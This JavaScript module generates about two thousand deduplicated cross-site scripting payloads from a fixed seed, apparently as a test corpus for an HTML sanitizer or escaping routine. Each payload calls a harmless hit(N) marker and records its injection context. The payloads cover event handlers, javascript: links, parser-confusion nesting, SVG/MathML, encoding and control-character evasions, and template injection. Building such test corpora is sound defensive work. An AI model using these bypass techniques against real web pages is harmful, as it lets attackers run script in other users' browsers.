// Two thousand ways to make a page run what a reader wrote, made by rules of our
// own and one seed: each calls `hit(N)`, N its place in the list, where a page
// lets it run. `at` is where it was made to stand: in text, in a quoted attribute,
// in a link, in a textarea, a title, a script.
let state = 0;
/** The next number of chance below `below` (a multiplicative step and a mix). */
function roll(below) {
  state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
  let mixing = Math.imul(state ^ (state >>> 15), 0x2c1b3c6d) >>> 0;
  mixing = (mixing ^ (mixing >>> 12)) >>> 0;
  return mixing % below;
}
/** One of a list. */
const of = (list) => list[roll(list.length)];

const events = ('abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput '
  + 'beforematch beforepaste beforeprint beforetoggle beforeunload begin blur cancel canplay canplaythrough change click close contextmenu copy '
  + 'cuechange cut dblclick drag dragend dragenter dragleave dragover dragstart drop durationchange emptied end ended error finish focus focusin '
  + 'focusout formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadedmetadata loadstart '
  + 'lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel offline online pagehide pageshow '
  + 'paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup '
  + 'popstate progress ratechange repeat reset resize scroll scrollend search securitypolicyviolation seeked seeking select selectionchange '
  + 'selectstart slotchange stalled start storage submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel '
  + 'transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting webkitanimationend webkitanimationstart wheel').split(' ');
const elements = ('a abbr address area article aside audio b base bdi bdo big blink blockquote body br button canvas center cite code col custom-tag data dd del '
  + 'details dfn dialog dir div dl dt em embed fieldset figure font footer form h1 header hr html i iframe img input ins kbd keygen label legend li link main map '
  + 'mark marquee menu meter nav object ol optgroup option output p picture pre progress q ruby s samp section select small source span strike strong style sub summary '
  + 'sup svg table tbody td template textarea tfoot th time tr track tt u ul var video wbr xss').split(' ');
// What runs without anybody: an element, what it needs, and its event.
const eager = [
  ['img', 'src=x:', 'error'], ['img', 'src=data:,', 'error'], ['image', 'src=x:', 'error'], ['img', 'srcset=x:', 'error'],
  ['svg', '', 'load'], ['body', '', 'load'], ['body', '', 'pageshow'], ['iframe', '', 'load'], ['iframe', 'src=about:blank', 'load'],
  ['script', 'src=x:', 'error'], ['script', 'src=data:,', 'load'], ['style', '', 'load'], ['link', 'rel=stylesheet href=data:text/css,', 'load'],
  ['link', 'rel=stylesheet href=x:', 'error'], ['input', 'autofocus', 'focus'], ['textarea', 'autofocus', 'focus'], ['select', 'autofocus', 'focus'],
  ['button', 'autofocus', 'focus'], ['a', 'href=# autofocus', 'focus'], ['b', 'tabindex=1 autofocus', 'focus'], ['details', 'open', 'toggle'],
  ['video', 'src=x:', 'error'], ['audio', 'src=x:', 'error'], ['video', 'src=x: poster=x:', 'loadstart'], ['object', 'data=x:', 'error'],
  ['input', 'type=image src=x:', 'error'], ['embed', 'src=x:', 'error'], ['video', 'autoplay src=data:,', 'error'], ['frameset', '', 'load'],
  ['svg', 'xmlns=http://www.w3.org/2000/svg', 'load'], ['marquee', '', 'start'], ['p', 'style=animation:a tabindex=1 autofocus', 'focusin'],
];
const gaps = [' ', '\t', '\n', '\f', '\r', '/', ' / ', '  ', '\n\n', '/ /'];
const mixed = (word) => [...word].map((letter) => (roll(2) ? letter.toUpperCase() : letter)).join('');
const entity = (letter) => {
  const code = letter.codePointAt(0);
  return of([`&#${code};`, `&#x${code.toString(16)};`, `&#X${code.toString(16).toUpperCase()};`, `&#0000${code};`, `&#x00000${code.toString(16)};`]);
};
const entities = (words, share = 1) => [...words].map((letter) => (roll(share) ? letter : entity(letter))).join('');
const quoted = (value) => of([value, `"${value}"`, `'${value}'`, `"${value}`, `\`${value}\``, `" ${value} "`, `'\n${value}\n'`, entities(value, 3)]);

/** The kinds: how many of each, and how one is made. `run` is the call. */
const kinds = [
  // Every event on every kind of element, in every quoting.
  ['handler', 260, (run, at) => {
    const name = elements[(at * 7 + roll(3)) % elements.length];
    const event = events[at % events.length];
    return `<${mixed(name)}${of(gaps)}${of(['', 'id=x ', 'class="a b" ', 'tabindex=1 ', 'contenteditable ', 'draggable=true '])}`
      + `${mixed(`on${event}`)}${of(['=', ' = ', '\n=\n', '=\t'])}${quoted(run)}${of(['>', '/>', ' >', '>x', `>x</${name}>`, '//>'])}`;
  }],
  // What needs nobody.
  ['eager', 220, (run, at) => {
    const [name, needs, event] = eager[at % eager.length];
    const gap = of(gaps);
    return `${of(['', 'x', '</p>', '--><', '</a>', '>', '"\'>'])}<${mixed(name)}${gap}${needs}${needs ? ' ' : ''}on${mixed(event)}=${quoted(run)}${roll(6) ? '>' : ' <b>'}`
      + `${['style', 'script', 'iframe', 'svg', 'details', 'object'].includes(name) ? `</${name}>` : ''}`;
  }],
  ['script', 120, (run) => {
    const code = of([run, `;${run};`, `/*x*/${run}//`, `\n${run}\n`, `window['hit'](${run.match(/\d+/)[0]})`, `eval('${run}')`, `setTimeout("${run}")`, `(()=>${run})()`, `top.${run}`, `[1].map(()=>${run})`, `Function("${run}")()`, `\\u0068it(${run.match(/\d+/)[0]})`]);
    const open = of(['<script>', '<script >', '<script/x>', '<script\n>', '<script\ttype=text/javascript>', '<script type="text/javascript">', '<script type=module>', '<script async>', '<script x=">" >', '<script language=javascript>', '<script\f>', '<script defer=defer/>']);
    return `${of(['', '</textarea>', '</title>', '-->', ']]>', '</style>', '</noscript>', '"></a>'])}${roll(2) ? open : open.replace('script', mixed('script'))}${code}${of(['</script>', '</SCRIPT>', '</script >', '</script\n>', '</script x>', '</script/>'])}`;
  }],
  ['script by address', 60, (run) => {
    const code = Buffer.from(run).toString('base64');
    const url = of([`data:text/javascript,${run}`, `data:,${run}`, `DATA:application/javascript,${run}`, `data:text/javascript;charset=utf-8,${run}`, `data:text/javascript;base64,${code}`]);
    return `<script${of(gaps)}${of(['src', 'SRC', 'async src', 'type=module src'])}=${quoted(url)}></script>`;
  }],
  ['nested', 80, (run) => {
    const inner = `<img src=x: onerror=${run}>`;
    return of([
      `<scr<script>ipt>${run}</scr</script>ipt>`, `<<script>${run}//<</script>`, `<b <img src=x: onerror=${run}>`, `<a href="<img src=x: onerror=${run}>">`, `<table><tr>${inner}<td>`, `<select><option>${inner}</select>`,
      `<p title="</p>${inner}">`, `<textarea></textarea>${inner}`, `<!--${inner}-->`, `<!-->${inner}`, `<!--x--!>${inner}-->`, `<![CDATA[>${inner}]]>`, `<?php ${inner} ?>`, `<! ${inner}`, `</ ${inner}`, `<//${inner}`,
      `<b><i></b>${inner}</i>`, `<form><form>${inner}</form>`, `<a><a>${inner}`, `<noscript>${inner}</noscript>`, `<noscript><p title="</noscript>${inner}">`, `<xmp></xmp>${inner}`, `<plaintext>${inner}`, `<style></style>${inner}`, `<img src=x: "onerror=${run}>`,
      `<img/src=x:/onerror=${run}//`, `<img src=x: onerror=${run} `, `<img \x00src=x: onerror=${run}>`, `<im\x00g src=x: onerror=${run}>`, `<img src=x: on\x00error=${run}>`, `<div/x=">"/onclick=${run}>x`, `<input value=\`\` onfocus=${run} autofocus>`,
    ]) + of(['', ' ', 'نص', '</x>', '<!--']) + (roll(3) ? '' : '\u200f');
  }],
  // What a parser turns into something else when it reads it a second time.
  ['twice read', 120, (run) => {
    const inner = `<img src=x: onerror=${run}>`;
    const root = of(['svg', 'math', 'svg><desc', 'svg><title', 'svg><foreignObject', 'math><mtext', 'math><mi', 'math><annotation-xml encoding=text/html', 'math><annotation-xml', 'form><math><mtext></form><form><mglyph', 'table><svg', 'select><svg']);
    const box = of(['style', 'xmp', 'noscript', 'noembed', 'iframe', 'noframes', 'textarea', 'title', 'script', 'template', 'mglyph><style', 'malignmark><title', 'table><caption><xmp']);
    const last = box.split('<').pop().split('>').pop();
    const fill = of([inner, `<!--</${last}>${inner}-->`, `<a title="</${last}>${inner}">`, `<!--</${last}><a title="--&gt;${inner.replace('<', '&lt;').replace('>', '&gt;')}">`, `&lt;/${last}&gt;${inner}`, `<![CDATA[</${last}>${inner}]]>`, `</${last}>${inner}`, `</p>${inner}`]);
    return `<${root}><${box}>${fill}${roll(2) ? `</${last}>` : ''}`;
  }],
  ['drawing', 75, (run) => of([
    `<svg><script>${run}</script></svg>`, `<svg><script>${entities(run)}</script>`, `<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a></svg>`, `<svg><a href="${entities(`javascript:${run}`, 4)}"><text y=9>x</text>`,
    `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><set onbegin=${run} attributeName=x>`, `<svg><a><animate attributeName=href values=javascript:${run} /><text y=9>x</text></a>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x">`,
    `<svg><image href=x: onerror=${run}>`, `<svg><foreignObject><img src=x: onerror=${run}></foreignObject>`, `<svg/onload=${run}>`, `<svg\nonload\n=\n${run}>`, `<svg><g/onload=${run}></g>`, `<svg><style onload=${run}></style>`, `<svg><script href="data:,${run}"></script>`,
    `<math href=javascript:${run}>x</math>`, `<math><maction actiontype=statusline xlink:href="javascript:${run}">x</maction></math>`, `<math><mtext><img src=x: onerror=${run}></mtext></math>`, `<svg><rect width=9 height=9 onmouseover=${run}></rect>`, `<svg><text onclick=${run} y=9>x`, `<SVG ONLOAD=${run}>`,
    `<svg><discard onbegin=${run}>`, `<svg xmlns:x="http://www.w3.org/1999/xlink"><a x:href=javascript:${run}>`, `<svg><feImage href=x: onerror=${run}>`,
  ]) + of(['', ' ', 'x', '<', '</svg>', '\n']).repeat(1 + roll(3))],
  ['frame', 80, (run) => {
    const up = `parent.${run}`;
    const html = of([`<script>${up}</script>`, `<img src=x: onerror=${up}>`, `<svg onload=${up}>`]);
    const escaped = roll(2) ? html.replaceAll('<', '&lt;').replaceAll('>', '&gt;') : entities(html, 2);
    return of([`<iframe srcdoc="${escaped}">`, `<iframe srcdoc='${html}'>`, `<iframe src="javascript:${up}">`, `<iframe src=${entities(`javascript:${up}`)}>`, `<iframe/src="data:text/html,${html}">`, `<object data="javascript:${up}">`, `<embed src="javascript:${up}">`,
      `<frameset><frame src="javascript:${up}"></frameset>`, `<template><iframe srcdoc="${escaped}"></iframe></template>`, `<template shadowrootmode=open><img src=x: onerror=${run}></template>`, `<div><template shadowrootmode=open><svg onload=${run}></template></div>`, `<portal src="javascript:${up}">`, `<iframe SRCDOC = "${escaped}" sandbox=allow-scripts>`, `<iframe name=x srcdoc=${html.replaceAll(' ', '/')}>`]) + of(['', '</iframe>', 'x', ' ']);
  }],
  // Links, in all disguises.
  ['link', 180, (run) => {
    const scheme = of(['javascript', 'javascript', 'javascript', 'vbscript', 'data', 'livescript', 'blob', 'feed:javascript', 'view-source:javascript']);
    let word = roll(2) ? scheme : mixed(scheme);
    const cut = 1 + roll(word.length - 1);
    word = of([word, `${word.slice(0, cut)}\t${word.slice(cut)}`, `${word.slice(0, cut)}\n${word.slice(cut)}`, `${word.slice(0, cut)}&Tab;${word.slice(cut)}`, `${word.slice(0, cut)}&NewLine;${word.slice(cut)}`, `${word.slice(0, cut)}&#10;${word.slice(cut)}`, entities(word), entities(word, 3), ` \n${word}`, `\x01${word}`, `&#1;&#31;${word}`, `${word.slice(0, cut)}\r${word.slice(cut)}`, `\u00a0${word}`, `${word.slice(0, cut)}\x00${word.slice(cut)}`, `&#9;${word}`]);
    const rest = scheme === 'data' ? `text/html,<script>${run}</script>` : of([run, `//%0a${run}`, `/**/${run}`, `void(${run})`, `"${run}"&&${run}`, `'\\x3c'+${run}`, `alert?${run}:1`, `//x.example/%0d${run}`]);
    const url = `${word}${of([':', ':', '&colon;', '&#58;', '&#x3a;', ' :'])}${rest}`;
    const quote = of(['"', "'", '"']);
    const safe = url.replaceAll(quote, quote === '"' ? '&quot;' : '&#39;');
    return of([`<a href=${quote}${safe}${quote}>x</a>`, `<a\nHREF = ${quote}${safe}${quote} target=_self>x`, `<form action=${quote}${safe}${quote}><button>x</button></form>`, `<button form=f formaction=${quote}${safe}${quote}>x</button><form id=f></form>`, `<form><input type=submit formaction=${quote}${safe}${quote}>`, `<map><area href=${quote}${safe}${quote} shape=default></map>`, `<a href=${quote}${safe}${quote}><b>x</b></a>`, `<svg><a xlink:href=${quote}${safe}${quote}><text>x</text></a>`, `<meta http-equiv=refresh content=${quote}0;url=${safe}${quote}>`, `<base href=${quote}${safe}/${quote}><a href=x>x</a>`, `[x](${url})`, `<${url}>`, `<q cite=${quote}${safe}${quote}>x</q>`, `<details open ontoggle=location=${quote}${safe}${quote}>`]);
  }],
  // What a maker of links could take for one.
  ['bare link', 170, (run) => {
    const scheme = of(['http://', 'https://', 'HTTP://', 'hTtPs://', 'http:// ', 'http:\u2028//', 'www.', 'http://http://', 'javascript:http://', 'data:https://', 'http://www.']);
    const host = of(['a', 'x.example', 'مثال.إختبار', 'a@b', '[::1]', '127.0.0.1', 'x.example:80', 'xn--mgbh0fb.example', '\u202eelpmaxe', 'a%00b', 'a\x00b', '..', '']);
    const tail = of([`"onmouseover=${run} x="`, `'onclick=${run} x='`, `"><img src=x: onerror=${run}>`, `'><svg onload=${run}>`, `/<script>${run}</script>`, `/"autofocus tabindex=1 onfocus="${run}`, `\u2028onmouseover=${run}`, `\u2029"onclick=${run}`, `/\t"onclick="${run}`, `?q=%22%3E%3Cscript%3E${run}%3C/script%3E`, `/%3Cimg%20src=x:%20onerror=${run}%3E`, `/%22onmouseover=%22${run}`, `/&quot;onmouseover=${run}`, `/&lt;script&gt;${run}&lt;/script&gt;`, `/\`onmouseover=${run}`, `#javascript:${run}`, `/\u00a0onclick=${run}`, `/)"onclick="${run}`, `/${'a/'.repeat(60)}"onclick="${run}`, `/%0a%22onclick=${run}`, `/\\"onclick="${run}`, `/%E2%80%AE%22onclick=${run}`, `/%C0%A2onclick=${run}`, `/%u0022onclick=${run}`, `/http://b"onclick="${run}`, `/%2522%253E%253Cscript%253E${run}`, `/{{${run}}}`, `/«${run}»"onclick="${run}`, `/\u200f"onclick="${run}`, `/\uff02onclick=\uff02${run}`]);
    return `${scheme}${host}${tail}`;
  }, 'link'],
  // Out of a quoted attribute, a textarea, a title, a script.
  ['double quotes', 70, (run) => `${of(['', 'x', '\\', '/', '&quot;', ' '])}"${of(['', ' ', '\t', '\n', '/'])}${of([`onmouseover=${run} x="`, `onmouseover="${run}`, `autofocus onfocus=${run} x="`, `><img src=x: onerror=${run}>`, `><script>${run}</script>`, `><svg onload=${run}>`, `style=animation:a onanimationstart=${run} x="`, `onclick=${run}//`, `tabindex=1 autofocus onfocusin="${run}`, `/></textarea><img src=x: onerror=${run}>`])}`, 'double'],
  ['single quotes', 60, (run) => `${of(['', 'x', '\\', '&#39;', ' ', '/'])}'${of(['', ' ', '\t', '\n', '/'])}${of([`onmouseover=${run} x='`, `onclick='${run}`, `autofocus onfocus=${run} x='`, `><img src=x: onerror=${run}>`, `><script>${run}</script>`, `><svg onload=${run}>`, `onkeyup=${run}//`, `onpointerover='${run}`])}`, 'single'],
  ['textarea', 40, (run) => `${of(['', 'x', '\n', '<!--', '"', '&lt;'])}</${roll(2) ? 'textarea' : mixed('textarea')}${of(['>', ' >', '\n>', '/>', ' x=">">', '\t>'])}${of([`<img src=x: onerror=${run}>`, `<script>${run}</script>`, `<svg onload=${run}>`, `<input autofocus onfocus=${run}>`, `<a href=javascript:${run}>x</a>`])}${roll(2) ? '<textarea>' : ''}`, 'textarea'],
  ['title', 30, (run) => `${of(['', 'x', '<!--', '"', '&lt;'])}</${roll(2) ? 'title' : mixed('title')}${of(['>', ' >', '\n>', '/>'])}${of([`<script>${run}</script>`, `<img src=x: onerror=${run}>`, `<svg onload=${run}>`])}${roll(2) ? '<title>' : ''}`, 'title'],
  ['script end', 60, (run) => of([`</script><script>${run}</script>`, `</SCRIPT ><img src=x: onerror=${run}>`, `";${run};//`, `"-${run}-"`, `"+${run}+"`, `\\";${run};//`, `</script\n><svg onload=${run}>`, `"}</script><script>${run}//`, `","x":${run},"y":"`, `\u2028${run}//`, `\\u0022;${run}//`, `<!--</script><script>${run}</script>`, `"};${run};{"`, `<!--<script>";${run}//`]) + of(['', ' ', 'x', '\t', '//', ';', '/*']), 'script'],
  ['comment', 30, (run) => of([`--><img src=x: onerror=${run}>`, `--!><script>${run}</script>`, `><svg onload=${run}>`, `-><img src=x: onerror=${run}>`, `<!-- --><script>${run}</script>`, `--><!--><img src=x: onerror=${run}><!--`]) + of(['', ' ', 'x', '<!--', '-->', '--']), 'comment'],
  // What is markup only after something decodes it.
  ['coded', 85, (run) => {
    const html = of([`<script>${run}</script>`, `<img src=x: onerror=${run}>`, `<svg/onload=${run}>`]);
    const each = (make) => [...html].map(make).join('');
    const hex = (letter, digits) => letter.codePointAt(0).toString(16).padStart(digits, '0');
    return of([
      () => entities(html), () => html.replaceAll('<', '&lt;').replaceAll('>', '&gt;'), () => html.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'), () => encodeURIComponent(html), () => encodeURIComponent(encodeURIComponent(html)),
      () => each((letter) => `\\u${hex(letter, 4)}`), () => each((letter) => `\\x${hex(letter, 2)}`), () => each((letter) => `%u${hex(letter, 4)}`), () => html.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'), () => html.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
      () => html.replaceAll('<', '\u2039').replaceAll('>', '\u203a'), () => html.replaceAll('<', '%C0%BC'), () => html.replaceAll('<', '\\3c '), () => html.replaceAll('<', '&LT;').replaceAll('>', '&GT;'), () => html.replaceAll('<', '&lt').replaceAll('>', '&gt'), () => html.replaceAll('<', '\ufe64').replaceAll('>', '\ufe65'),
      () => [...html].join('\x00'), () => html.replace(/[a-z]/, (letter) => `${letter}\u200b`), () => html.replaceAll('<', '<\ufeff'), () => html.replaceAll('s', 'ſ').replaceAll('k', 'K'), () => html.replaceAll('i', 'ı'), () => `\x1b$B${html}\x1b(B`, () => html.replaceAll('<', '<\u0338'), () => Buffer.from(html).toString('base64'),
    ])() + of(['', ' ', '.', '\u200e', 'x', '!']);
  }],
  ['control signs', 80, (run) => {
    const sign = of(['\x00', '\x01', '\x08', '\x0b', '\x0c', '\x0e', '\x1b', '\x1f', '\x7f', '\x80', '\x85', '\x9f', '\u2028', '\u2029', '\ufeff', '\u200b', '\u00ad', '\u202e', '\u2066', '\u200f', '\u061c', '\ufffe', '\u180e', '\u3000']);
    return of([`<${sign}img src=x: onerror=${run}>`, `<img${sign}src=x: onerror=${run}>`, `<img src=x:${sign}onerror=${run}>`, `<img src=x: ${sign}onerror=${run}>`, `<img src=x: onerror${sign}=${run}>`, `<img src=x: onerror=${sign}${run}>`, `<scr${sign}ipt>${run}</scr${sign}ipt>`, `<script>${sign}${run}</script>`, `<svg${sign}onload=${run}>`, `<a href="${sign}javascript:${run}">x</a>`, `<a href="java${sign}script:${run}">x</a>`, `${sign}<svg onload=${run}>${sign}`, `</${sign}textarea><svg onload=${run}>`]);
  }],
  ['turned round', 45, (run) => {
    const [open, close] = of([['\u202e', '\u202c'], ['\u202d', '\u202c'], ['\u2067', '\u2069'], ['\u2066', ''], ['\u202b', ''], ['\u200f', '\u200e'], ['\u061c', '']]);
    return of([`${open}<img src=x: onerror=${run}>${close}`, `<img ${open}src=x:${close} onerror=${run}>`, `<bdo dir=rtl onclick=${run}>${open}x${close}</bdo>`, `>${open}${run}=rorreno :x=crs gmi<`, `${open}http://x.example/"onclick="${run}${close}`, `<b dir=${open} onmouseover=${run}>x</b>`, `سامر${open}<script>${run}</script>`]);
  }],
  ['style', 55, (run) => of([`<style>@import'javascript:${run}'</style>`, `<b style="background:url(javascript:${run})">x`, `<b style="width:expression(${run})">x`, `<style>@keyframes a{}</style><b style=animation-name:a onanimationstart=${run}>`, `<b style=animation:a onanimationend=${run}>`, `<style>b{}</style><style onload=${run}></style>`, `<b style="transition:all 1s" ontransitionend=${run} tabindex=1>x`, `<link rel=stylesheet href="javascript:${run}">`, `<style></style/onload=${run}><img src=x: onerror=${run}>`, `<b style="-moz-binding:url(x#${run})">`, `<style>*{x:'</style><img src=x: onerror=${run}>'}`, `<style>@media{</style><svg onload=${run}>`, `<div style='x:\\65 xpression(${run})'>`, `<style media="x" onload=${run}>a{}</style>`, `<link rel=stylesheet onload=${run} href="data:text/css,a{}">`]) + of(['', ' ', 'x', '<', '</b>', '\n.'])],
  ['template', 80, (run) => {
    const [open, close] = of([['{{', '}}'], ['{%', '%}'], ['${', '}'], ['<%=', '%>'], ['#{', '}'], ['{{{', '}}}'], ['[[', ']]'], ['{#', '#}'], ['<?=', '?>'], ['{{=', '}}'], ['$(', ')'], ['@{', '}'], ['{{-', '-}}'], ['{$', '}'], ['*{', '}']]);
    return `${open}${of([run, ' 7*7 ', ` "${run}"|safe `, `constructor.constructor('${run}')()`, ` set x = "<svg onload=${run}>" `, ` include "${run}" `, ` raw ${close}<svg onload=${run}>${open} endraw `, ` self.__class__ ${run}`, ` autoescape false ${close}<img src=x: onerror=${run}>`])}${close}`;
  }],
];

/** The list: `{ n, kind, at, words }`, each shape once. */
function vectors() {
  const out = [];
  const shapes = new Set();
  kinds.forEach(([kind, many, make, at = 'text'], place) => {
    for (let number = 0, tries = 0; number < many; tries += 1) {
      const n = out.length;
      if (tries > 5_000) throw new Error(`${kind} has no ${many} shapes, but ${number}`);
      const seed = place * 100_003 + tries;
      state = seed;
      const shape = make('hit(0)', number);
      if (shapes.has(shape)) continue;
      shapes.add(shape);
      state = seed;
      out.push({ n, kind, at, words: make(`hit(${n})`, number) });
      number += 1;
    }
  });
  return out;
}

module.exports = { events, vectors };
